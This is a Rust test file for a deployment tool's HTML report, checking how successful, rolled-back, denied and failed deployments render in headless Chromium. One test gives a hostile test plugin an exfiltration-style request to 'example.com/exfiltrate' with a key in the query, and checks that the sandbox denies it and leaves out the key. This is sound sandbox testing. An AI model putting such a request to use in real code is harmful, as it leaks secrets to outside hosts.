//! `sluice report --html`: the page of a real deployment that succeeded, one a failing gate
//! rolled back, one whose plugin was denied what it asked for and one that failed, loaded in
//! headless Chromium.
//! Each page renders with nothing on its console (its policy refuses every load, so a page
//! reaching for the network would say so there), holds a lane per unit and a mark per probe,
//! and fits a phone's width; screenshots go to `build/screenshots/`.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::event_stream::apply_json;
use crate::support::chromium::{Rendered, laid_out_width, render, screenshot};
use crate::support::project::{ENV, Project, static_site_plan, test_plugin_plan};
use crate::support::{EXIT_FAILED, EXIT_ROLLED_BACK, EXIT_SUCCESS, Run};

/// A phone's width in CSS pixels.
const PHONE: u32 = 390;

/// [`static_site_plan`] (unit `web`, with `extra_gate`) and a second unit, `docs`, publishing the
/// same site under `www/docs` with a live gate of its own.
fn two_unit_plan(extra_gate: &str) -> String {
    static_site_plan(extra_gate)
        + r#"
[units.docs]
plugin = "site"
config = { source = "/site", target = "/www/docs" }
endpoints = ["{base}"]
gates = [{ http = "{base}/docs/current/index.html", body = "${version}", interval = "50ms", deadline = "5s" }]
"#
}

/// The events `run` printed with `--output json`.
fn events(run: &Run) -> Vec<Value> {
    run.stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

/// How many probes `run` made: all of them, or those that failed.
fn probes(run: &Run, failed_only: bool) -> usize {
    events(run)
        .iter()
        .filter(|e| e["event"] == "probe" && (!failed_only || e["ok"] == false))
        .count()
}

/// Writes the report of the environment's newest deployment; its path.
fn report(project: &Project, name: &str) -> PathBuf {
    let page = project.path().join(name);
    let run = project.sluice(&["report", "--env", ENV, "--html", page.to_str().unwrap()]);
    assert_eq!(run.code, EXIT_SUCCESS, "{}", run.all());
    page
}

/// Renders `page` at a desktop's width, asserting its console stayed silent and it fits a phone.
fn rendered(page: &Path) -> Rendered {
    let rendered = render(page, 1280);
    assert!(
        rendered.console.is_empty(),
        "the page wrote on the console: {:#?}",
        rendered.console
    );
    assert!(
        rendered.dom.contains("<h2>Timeline</h2>"),
        "{}",
        rendered.dom
    );
    let width = laid_out_width(page, PHONE);
    assert!(
        width <= PHONE,
        "on a {PHONE}px screen the page is {width}px wide"
    );
    rendered
}

/// Asserts the page has the lane of `unit`, marked with its `outcome`.
fn assert_lane(dom: &str, unit: &str, outcome: &str) {
    assert!(
        dom.contains(&format!(r#"data-unit="{unit}" data-outcome="{outcome}""#)),
        "no lane of {unit} {outcome}: {dom}"
    );
}

fn count(dom: &str, needle: &str) -> usize {
    dom.matches(needle).count()
}

#[test]
fn the_report_of_a_success_has_a_lane_per_unit_a_mark_per_probe_and_an_intact_audit_log() {
    let project = Project::new();
    project.write_plan(&two_unit_plan(""));
    let run = apply_json(&project, "v1");
    assert_eq!(run.code, EXIT_SUCCESS, "{}", run.all());
    let page = report(&project, "success.html");

    let dom = rendered(&page).dom;
    assert_eq!(count(&dom, r#"<div class="lane""#), 2, "{dom}");
    assert_lane(&dom, "web", "succeeded");
    assert_lane(&dom, "docs", "succeeded");
    assert_eq!(
        count(&dom, r#"class="probe "#),
        probes(&run, false),
        "{dom}"
    );
    assert!(
        probes(&run, false) >= 3,
        "every gate probed: {}",
        run.stdout
    );
    assert_eq!(count(&dom, r#"class="probe failed""#), 0);
    assert!(dom.contains(r#"id="outcome">succeeded<"#), "{dom}");
    assert!(dom.contains("<td>passed</td>"), "{dom}");
    assert!(
        dom.contains(r#"class="audit intact" id="audit">intact: "#),
        "{dom}"
    );
    assert!(
        dom.contains("<td>finalize</td><td><code>types.[method]descriptor.rename-at</code>"),
        "the static-site plugin's cut-over (a rename) is among the calls: {dom}"
    );

    screenshot(&page, 1280, 900, "report.png");
    screenshot(&page, PHONE, 1600, "report-phone.png");
}

#[test]
fn the_report_of_a_rolled_back_deployment_marks_the_failed_probes_and_gives_the_gates_reason() {
    let project = Project::new();
    project.write_plan(&two_unit_plan(""));
    assert_eq!(apply_json(&project, "v1").code, EXIT_SUCCESS);
    project.write_plan(&two_unit_plan(
        r#"{ tcp = "127.0.0.1:1", interval = "50ms", deadline = "300ms" }"#,
    ));
    let run = apply_json(&project, "v2");
    assert_eq!(run.code, EXIT_ROLLED_BACK, "{}", run.all());
    let page = report(&project, "rolled-back.html");

    let dom = rendered(&page).dom;
    assert!(dom.contains(r#"id="outcome">rolled-back<"#), "{dom}");
    assert_lane(&dom, "web", "rolled-back");
    assert_eq!(
        count(&dom, r#"class="probe "#),
        probes(&run, false),
        "{dom}"
    );
    let failed = probes(&run, true);
    assert!(failed >= 1, "{}", run.stdout);
    assert_eq!(count(&dom, r#"class="probe failed""#), failed, "{dom}");
    assert!(
        dom.contains(r#"<tr class="failed"><td>web</td><td>live</td><td><code>tcp 127.0.0.1:1</code></td><td>failed</td>"#),
        "the failed gate's row: {dom}"
    );
    assert!(
        dom.contains("connection refused") || dom.contains("refused"),
        "{dom}"
    );
    assert!(
        dom.contains(r#"class="bar step" "#) && dom.contains(">rollback<"),
        "{dom}"
    );

    screenshot(&page, 1280, 900, "report-rolled-back.png");
}

#[test]
fn the_report_of_a_deployment_whose_plugin_was_denied_lists_the_denied_call_and_its_reason() {
    let project = Project::v1_live_then("hostile-http", "", "");
    project.write_plan(&test_plugin_plan(
        "hostile-http",
        "[plugins.bad.grants]\nhttp = [\"http://127.0.0.1:9\"]",
        "attack = \"get\", args = [\"http://example.com/exfiltrate?key=abc\"]",
    ));
    let run = apply_json(&project, "v2");
    assert_ne!(run.code, EXIT_SUCCESS, "{}", run.all());
    let page = report(&project, "denied.html");

    let dom = rendered(&page).dom;
    assert!(!dom.contains(r#"id="outcome">succeeded<"#), "{dom}");
    assert!(
        dom.contains(r#"<tr class="denied">"#)
            && dom.contains("GET http://example.com/exfiltrate")
            && dom.contains("is not granted to plugin `bad`"),
        "the denied request, with the reason: {dom}"
    );
    assert!(!dom.contains("key=abc"), "the query is not kept: {dom}");
    assert!(dom.contains("1 denied"), "{dom}");

    screenshot(&page, 1280, 900, "report-denied.png");
}

#[test]
fn the_report_of_a_failed_deployment_shows_the_failure_and_the_unit_that_still_succeeded() {
    let project = Project::new();
    project.write_plan(&two_unit_plan("").replacen(
        "source = \"/site\"",
        "source = \"/site/missing\"",
        1,
    ));
    let run = apply_json(&project, "v1");
    assert_eq!(run.code, EXIT_FAILED, "{}", run.all());
    let page = report(&project, "failed.html");

    let dom = rendered(&page).dom;
    assert!(dom.contains(r#"id="outcome">failed<"#), "{dom}");
    assert_lane(&dom, "web", "failed");
    assert_lane(&dom, "docs", "succeeded");
    assert!(
        dom.contains("/site/missing"),
        "the reason names what is missing: {dom}"
    );

    screenshot(&page, 1280, 900, "report-failed.png");
}

#[test]
fn a_report_of_a_deployment_with_no_record_is_an_error_naming_it() {
    let project = Project::new();
    project.write_plan(&static_site_plan(""));
    let run = project.sluice(&["report", "nope", "--html", "x.html"]);
    assert_ne!(run.code, EXIT_SUCCESS, "{}", run.all());
    assert!(run.stderr.contains("nope"), "{}", run.all());
    assert!(!project.path().join("x.html").exists());
}
